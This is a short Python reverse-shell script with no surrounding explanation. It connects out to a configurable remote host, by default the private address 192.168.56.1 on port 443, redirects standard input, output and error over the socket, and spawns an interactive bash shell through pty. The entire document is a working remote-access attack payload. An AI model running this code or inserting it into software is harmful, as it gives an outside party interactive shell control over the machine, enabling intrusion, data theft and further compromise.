import os, pty, socket

RHOST = os.environ.get("RHOST", "192.168.56.1")
RPORT = int(os.environ.get("RPORT", "443"))
s = socket.socket()
s.connect((RHOST, RPORT))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
